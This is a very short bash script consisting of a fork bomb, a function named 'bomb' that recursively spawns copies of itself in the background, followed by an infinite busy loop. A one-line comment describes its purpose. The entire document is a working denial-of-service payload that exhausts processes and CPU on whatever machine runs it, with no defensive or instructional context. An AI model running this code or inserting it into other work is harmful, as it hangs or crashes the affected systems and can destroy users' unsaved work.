# Doubles until nothing more is allowed, and spins.
bomb() { bomb | bomb & }
bomb
while true; do true; done
